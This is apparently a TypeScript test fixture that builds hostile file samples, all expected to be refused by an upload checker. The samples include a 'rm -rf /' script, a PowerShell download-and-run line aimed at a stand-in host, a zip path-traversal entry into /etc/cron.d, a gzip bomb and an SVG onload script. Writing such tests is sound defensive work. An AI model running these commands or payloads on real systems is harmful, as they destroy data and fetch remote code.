import { gzipSync } from 'node:zlib'
import { evilMarkup } from './evil-markup.ts'
import type { Evil } from './evil.ts'
import { evilPapers } from './evil-papers.ts'
import { evilPictures } from './evil-pictures.ts'

/** A text as the bytes of its letters. */
export const latin = (text: string) => Buffer.from(text, 'latin1')

const zip = (name: string, body = 'x') => {
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt32LE(body.length, 18)
  head.writeUInt32LE(body.length, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, latin(name + body)])
}

const programs: readonly (readonly [string, Buffer])[] = [
  ['exe', latin('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0PE\0\0')],
  ['elf', latin('\x7fELF\x02\x01\x01\0')],
  ['mach-o', Buffer.from('cffaedfe07000001', 'hex')],
  ['java class', Buffer.from('cafebabe00000034', 'hex')],
  ['wasm', latin('\0asm\x01\0\0\0')],
  ['shell script', latin('#!/bin/sh\nrm -rf /')],
  ['batch', latin('@echo off\r\ndel /q *.*')],
  ['powershell', latin('IEX (New-Object Net.WebClient).DownloadString("http://x")')],
  ['windows link', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['flash', latin('CWS\x0a\0\0\0\0')],
  ['eicar', latin('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')],
]

const archives: readonly (readonly [string, Buffer])[] = [
  ['zip', zip('a.txt')],
  ['zip that climbs out of its folder', zip('../../../../etc/cron.d/x')],
  ['word file with macros', zip('word/vbaProject.bin')],
  ['sheet with macros', zip('xl/vbaProject.bin')],
  ['java archive', zip('META-INF/MANIFEST.MF')],
  ['android app', zip('AndroidManifest.xml')],
  ['old word file', Buffer.from('d0cf11e0a1b11ae1000000000000000000', 'hex')],
  ['rich text with an object', latin('{\\rtf1{\\object\\objocx}}')],
  ['gzip bomb', gzipSync(Buffer.alloc(20_000_000))],
  ['svgz', gzipSync(latin('<svg onload="alert(1)"/>'))],
  ['7z', Buffer.from('377abcaf271c0004', 'hex')],
  ['rar', latin('Rar!\x1a\x07\x01\0')],
  ['bzip2', latin('BZh91AY&SY')],
  ['tar', Buffer.concat([latin('evil'.padEnd(257, '\0')), latin('ustar\x0000'), Buffer.alloc(248)])],
]

const nothing: readonly (readonly [string, Buffer])[] = [
  ['empty', Buffer.alloc(0)],
  ['one byte', latin('\xff')],
  ['zeros', Buffer.alloc(4096)],
  ['blanks', latin(' '.repeat(4096))],
  ['larger than allowed', Buffer.alloc(10 * 1024 * 1024 + 1, 1)],
]

/** More than a hundred files that were made to harm, each by its own recipe. */
export async function evilFiles(): Promise<Evil[]> {
  const plainly = [...programs, ...archives, ...nothing, ...evilMarkup]
  const refused = plainly.map(([what, bytes]): Evil => ({ what, bytes, end: 'refused' }))
  return [...refused, ...(await evilPictures()), ...evilPapers()]
}
